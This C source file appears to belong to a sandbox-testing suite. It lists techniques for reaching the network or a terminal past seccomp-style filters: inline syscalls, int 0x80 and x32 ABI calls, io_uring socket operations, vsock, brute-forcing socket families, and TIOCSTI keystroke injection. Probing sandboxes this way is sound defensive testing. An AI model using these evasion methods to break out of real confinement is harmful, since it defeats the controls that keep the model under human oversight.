/* System calls past libc: by its own syscall(), inline, of other tables, and through rings. */
#include "hostile.h"
#include <linux/io_uring.h>

static long inline_call(long number, long a, long b, long c, long d, long e, long f) {
#if defined __x86_64__
    long result;
    register long r10 __asm__("r10") = d;
    register long r8 __asm__("r8") = e;
    register long r9 __asm__("r9") = f;
    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
                     : "rcx", "r11", "memory");
    return result;
#elif defined __aarch64__
    register long x8 __asm__("x8") = number;
    register long x0 __asm__("x0") = a;
    register long x1 __asm__("x1") = b;
    register long x2 __asm__("x2") = c;
    register long x3 __asm__("x3") = d;
    register long x4 __asm__("x4") = e;
    register long x5 __asm__("x5") = f;
    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2), "r"(x3), "r"(x4), "r"(x5) : "memory");
    return x0;
#endif
}

static int checked(long result) {
    if (result >= 0)
        return (int)result;
    errno = (int)-result;
    return -1;
}

static int by_syscall(const struct aim *aim) {
    int fd = (int)syscall(SYS_socket, AF_INET, SOCK_DGRAM, 0);
    return udp_fate(fd, (const struct sockaddr *)&aim->v4, sizeof aim->v4);
}

static int by_inline(const struct aim *aim) {
    int fd = checked(inline_call(SYS_socket, AF_INET, SOCK_DGRAM, 0, 0, 0, 0));
    return udp_fate(fd, (const struct sockaddr *)&aim->v4, sizeof aim->v4);
}

static int by_inline_raw(const struct aim *aim) {
    unsigned char packet[64];
    size_t length = datagram(aim, packet);
    int fd = checked(inline_call(SYS_socket, AF_INET, SOCK_RAW, IPPROTO_RAW, 0, 0, 0));
    if (fd < 0 || sendto(fd, packet, length, 0, (const struct sockaddr *)&aim->v4, sizeof aim->v4) < 0)
        return closing(fd, -1);
    return closing(fd, SILENT);
}

/* A pair of AF_INET never works, but asks the kernel for the family. */
static int by_socketpair(const struct aim *aim) {
    int pair[2];
    (void)aim;
    return checked(inline_call(SYS_socketpair, AF_INET, SOCK_DGRAM, 0, (long)pair, 0, 0));
}

#if defined __x86_64__
static int old_call(long number, long a, long b, long c) {
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    return checked((int)result);
}

/* The table of 32-bit programs, whose filter rules are often forgotten. */
static int by_int80(const struct aim *aim) {
    return udp_fate(old_call(359, AF_INET, SOCK_DGRAM, 0), (const struct sockaddr *)&aim->v4, sizeof aim->v4);
}

static int by_socketcall(const struct aim *aim) {
    uint32_t *arguments = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
    if (arguments == MAP_FAILED)
        return -1;
    arguments[0] = AF_INET;
    arguments[1] = SOCK_DGRAM;
    return udp_fate(old_call(102, 1, (long)arguments, 0), (const struct sockaddr *)&aim->v4, sizeof aim->v4);
}

static int by_x32(const struct aim *aim) {
    int fd = checked(inline_call(0x40000000 | SYS_socket, AF_INET, SOCK_DGRAM, 0, 0, 0, 0));
    return udp_fate(fd, (const struct sockaddr *)&aim->v4, sizeof aim->v4);
}
#else
static int by_int80(const struct aim *aim) {
    (void)aim;
    return ABSENT;
}
#define by_socketcall by_int80
#define by_x32 by_int80
#endif

struct ring {
    int fd;
    unsigned *tail, *mask, *array, *head, *done_tail, *done_mask;
    struct io_uring_sqe *entries;
    struct io_uring_cqe *results;
};

static int ring_open(struct ring *ring, int past_libc) {
    struct io_uring_params params;
    memset(&params, 0, sizeof params);
    ring->fd = past_libc ? checked(inline_call(SYS_io_uring_setup, 8, (long)&params, 0, 0, 0, 0))
                         : (int)syscall(SYS_io_uring_setup, 8, &params);
    if (ring->fd < 0)
        return -1;
    char *sq = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
    char *cq = mmap(NULL, 8192, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_CQ_RING);
    ring->entries = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQES);
    if (sq == MAP_FAILED || cq == MAP_FAILED || ring->entries == MAP_FAILED)
        return -1;
    ring->tail = (unsigned *)(sq + params.sq_off.tail);
    ring->mask = (unsigned *)(sq + params.sq_off.ring_mask);
    ring->array = (unsigned *)(sq + params.sq_off.array);
    ring->head = (unsigned *)(cq + params.cq_off.head);
    ring->done_tail = (unsigned *)(cq + params.cq_off.tail);
    ring->done_mask = (unsigned *)(cq + params.cq_off.ring_mask);
    ring->results = (struct io_uring_cqe *)(cq + params.cq_off.cqes);
    return 0;
}

static int ring_do(struct ring *ring, const struct io_uring_sqe *what) {
    unsigned tail = *ring->tail, at = tail & *ring->mask;
    ring->entries[at] = *what;
    ring->array[at] = at;
    __atomic_store_n(ring->tail, tail + 1, __ATOMIC_RELEASE);
    int entered = checked(inline_call(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS, 0, 0));
    if (entered < 0 || __atomic_load_n(ring->done_tail, __ATOMIC_ACQUIRE) == *ring->head)
        return -1;
    int result = ring->results[*ring->head & *ring->done_mask].res;
    __atomic_store_n(ring->head, *ring->head + 1, __ATOMIC_RELEASE);
    return checked(result);
}

static int ring_socket(struct ring *ring, int family, int kind) {
    /* IORING_OP_SOCKET, also where the headers are older. */
    struct io_uring_sqe entry = {.opcode = 45, .fd = family, .off = (uint64_t)kind};
    return ring_do(ring, &entry);
}

static int ring_send(const struct aim *aim, int past_libc) {
    struct ring ring;
    if (ring_open(&ring, past_libc) < 0)
        return -1;
    int fd = ring_socket(&ring, AF_INET, SOCK_DGRAM);
    if (fd < 0)
        return -1;
    struct io_uring_sqe entry = {.opcode = IORING_OP_CONNECT, .fd = fd, .addr = (uint64_t)(uintptr_t)&aim->v4, .off = sizeof aim->v4};
    if (ring_do(&ring, &entry) < 0)
        return -1;
    entry = (struct io_uring_sqe){.opcode = IORING_OP_SEND, .fd = fd, .addr = (uint64_t)(uintptr_t)"out", .len = 3};
    if (ring_do(&ring, &entry) < 0)
        return -1;
    return answer_fate(fd);
}

static int ring_by_libc(const struct aim *aim) {
    return ring_send(aim, 0);
}

static int ring_inline(const struct aim *aim) {
    return ring_send(aim, 1);
}

/* A ring runs calls that a filter would have looked at. */
static int ring_vsock(const struct aim *aim) {
    struct ring ring;
    (void)aim;
    if (ring_open(&ring, 1) < 0)
        return -1;
    return ring_socket(&ring, 40, SOCK_STREAM) < 0 ? -1 : DONE;
}

static int vsock(const struct aim *aim) {
    (void)aim;
    return closing(-1, checked(inline_call(SYS_socket, 40, SOCK_STREAM, 0, 0, 0, 0)) < 0 ? -1 : DONE);
}

/* All families but those of the kernel itself, of this machine and of the Internet; what can be opened is a door. */
static int every_family(const struct aim *aim) {
    static const int kinds[] = {1, 2, 3, 4, 5, 6, 10};
    (void)aim;
    for (int family = 0; family < 64; family++) {
        if (family == AF_UNIX || family == AF_INET || family == AF_INET6 || family == AF_NETLINK || family == AF_PACKET ||
            family == 40)
            continue;
        for (size_t kind = 0; kind < sizeof kinds / sizeof *kinds; kind++)
            if (inline_call(SYS_socket, family, kinds[kind], 0, 0, 0, 0) >= 0)
                return DONE;
    }
    errno = EAFNOSUPPORT;
    return -1;
}

/* Types into a terminal what its shell will read. Ours is a terminal of our own; the kernel asks no more of any. */
static int type_into_terminal(const struct aim *aim) {
    int master = open("/dev/ptmx", O_RDWR | O_NOCTTY), unlocked = 0, number;
    char path[32];
    (void)aim;
    if (master < 0 || ioctl(master, TIOCSPTLCK, &unlocked) < 0 || ioctl(master, TIOCGPTN, &number) < 0)
        return ABSENT;
    snprintf(path, sizeof path, "/dev/pts/%d", number);
    setsid();
    /* What the terminal says when its master goes. */
    signal(SIGHUP, SIG_IGN);
    int slave = open(path, O_RDWR);
    ioctl(slave, TIOCSCTTY, 0);
    int result = ioctl(slave, TIOCSTI, "x");
    int error = errno;
    close(master);
    errno = error;
    return closing(slave, result < 0 ? -1 : DONE);
}

const struct attack calls[] = {
    {"syscall-function", by_syscall}, {"inline-syscall", by_inline}, {"inline-raw-socket", by_inline_raw},
    {"socketpair-inet", by_socketpair}, {"int80", by_int80}, {"int80-socketcall", by_socketcall}, {"x32", by_x32},
    {"io_uring", ring_by_libc}, {"io_uring-inline", ring_inline}, {"io_uring-vsock", ring_vsock}, {"vsock", vsock},
    {"every-family", every_family}, {"type-into-terminal", type_into_terminal}, {NULL, NULL},
};
